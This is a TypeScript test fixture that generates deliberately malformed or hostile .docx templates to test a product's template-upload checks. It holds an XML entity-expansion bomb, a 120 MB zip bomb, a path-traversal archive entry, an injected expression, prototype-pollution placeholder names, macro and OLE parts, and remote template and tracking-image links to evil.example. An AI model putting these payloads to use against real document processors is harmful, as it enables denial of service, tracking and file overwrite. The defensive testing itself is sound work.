/** Files that a clerk could upload as a template, at their worst, each made from a good one. */
import type { Zippable } from 'fflate';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { buildTemplates } from '../../templates/build-templates.ts';

const DOCUMENT = 'word/document.xml';
const PARAGRAPH = (words: string): string => `<w:p><w:r><w:t xml:space="preserve">${words}</w:t></w:r></w:p>`;

type Parts = Record<string, Uint8Array>;
type Change = (parts: Parts) => void;

const inBody =
  (xml: string): Change =>
  (parts) => {
    parts[DOCUMENT] = strToU8(strFromU8(parts[DOCUMENT] as Uint8Array).replace(/<w:body>/, `<w:body>${xml}`));
  };
const withPart =
  (name: string, content: string | Uint8Array): Change =>
  (parts) => {
    parts[name] = typeof content === 'string' ? strToU8(content) : content;
  };
const replaced =
  (name: string, pattern: RegExp, by: string): Change =>
  (parts) => {
    parts[name] = strToU8(strFromU8(parts[name] as Uint8Array).replace(pattern, by));
  };
const relation = (target: string, type: string): Change =>
  replaced(
    'word/_rels/document.xml.rels',
    /<\/Relationships>/,
    `<Relationship Id="rId999" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ` +
      `Target="${target}" TargetMode="External"/></Relationships>`,
  );
const runs = (...texts: readonly string[]): string =>
  `<w:p>${texts.map((text) => `<w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">${text}</w:t></w:r>`).join('')}</w:p>`;

const BOMB =
  '<!DOCTYPE w:document [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>';

const CHANGES: Readonly<Record<string, Change>> = {
  'unclosed loop': inBody(PARAGRAPH('{#actions}{ref}')),
  'loop closed twice': inBody(PARAGRAPH('{/actions}')),
  'loops that cross': inBody(PARAGRAPH('{#actions}{#risks}{/actions}{/risks}')),
  'brace without an end': inBody(PARAGRAPH('{title')),
  'unknown placeholder': inBody(PARAGRAPH('{nonsense}')),
  'name of an object’s insides': inBody(PARAGRAPH('{constructor}{__proto__}{toString}')),
  'expression in braces': inBody(PARAGRAPH('{title + process.exit(1)}')),
  'raw XML asked for': inBody(PARAGRAPH('{@title}')),
  'split over runs': inBody(runs('{ti', 'tl', 'e}')),
  'split over many runs': inBody(runs(...'{#actions}{ref} {action}{/actions}')),
  'placeholder in the header': (parts) => {
    for (const name of Object.keys(parts).filter((each) => /^word\/(header|footer)\d*\.xml$/.test(each)))
      parts[name] = strToU8(strFromU8(parts[name] as Uint8Array).replace(/(<w:(?:hdr|ftr)\b[^>]*>)/, `$1${PARAGRAPH('{title}')}`));
  },
  'macros inside': withPart('word/vbaProject.bin', new Uint8Array(512).fill(7)),
  'macro-enabled type': replaced('[Content_Types].xml', /wordprocessingml\.document\.main/, 'ms-word.document.macroEnabled.main'),
  'an embedded program': withPart('word/embeddings/oleObject1.bin', new Uint8Array(512).fill(7)),
  'a template from elsewhere': relation('https://evil.example/t.dotm', 'attachedTemplate'),
  'a picture from elsewhere': relation('https://evil.example/track.png', 'image'),
  'a link to elsewhere': relation('https://www.example.org/', 'hyperlink'),
  'entities that grow': replaced(DOCUMENT, /(<\?xml[^>]*\?>)/, `$1${BOMB}`),
  'XML that does not close': replaced(DOCUMENT, /<\/w:body>/, ''),
  'no main part': (parts) => void delete parts[DOCUMENT],
  'no content types': (parts) => void delete parts['[Content_Types].xml'],
  'deeply nested': inBody(`<w:p>${'<w:smartTag>'.repeat(6000)}${'</w:smartTag>'.repeat(6000)}</w:p>`),
  'a path out of the archive': withPart('../../outside.xml', '<a/>'),
  'words in UTF-16': (parts) => void (parts[DOCUMENT] = new Uint8Array(Buffer.from(strFromU8(parts[DOCUMENT] as Uint8Array), 'utf16le'))),
  'many placeholders': inBody(Array.from({ length: 3000 }, () => PARAGRAPH('{title}')).join('')),
  'loop in a loop in a loop': inBody(PARAGRAPH('{#actions}{#actions}{#actions}{ref}{/actions}{/actions}{/actions}')),
};

/** By name: a file, of which the product must say in a sentence that it keeps it or why not. */
export async function hostileTemplates(): Promise<ReadonlyMap<string, Uint8Array>> {
  const good = (await buildTemplates()).E;
  const made = Object.entries(CHANGES).map(([name, change]): [string, Uint8Array] => [name, changed(good, change)]);
  const bomb: Zippable = { ...partsOf(good), [DOCUMENT]: new Uint8Array(120 * 1024 * 1024).fill(32) };
  return new Map([
    ...made,
    ['nothing at all', new Uint8Array()],
    ['half a file', good.slice(0, Math.floor(good.length / 2))],
    ['a file of another kind', strToU8('%PDF-1.7 this is no Word file')],
    ['an old Word file', Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Uint8Array(512)])],
    ['an empty archive', zipSync({})],
    ['a zip bomb', zipSync(bomb, { level: 9 })],
    ['far too large', zipSync({ ...partsOf(good), 'word/media/image9.png': noise(6 * 1024 * 1024) }, { level: 0 })],
    ['one changed byte', good.map((byte, at) => (at === Math.floor(good.length / 3) ? byte ^ 0xff : byte))],
  ]);
}

const partsOf = (bytes: Uint8Array): Parts => unzipSync(bytes);

function changed(bytes: Uint8Array, change: Change): Uint8Array {
  const parts = partsOf(bytes);
  change(parts);
  return zipSync(parts);
}

/** Bytes that do not compress. */
function noise(length: number): Uint8Array {
  let state = 1;
  return Uint8Array.from({ length }, () => (state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0) >>> 24);
}
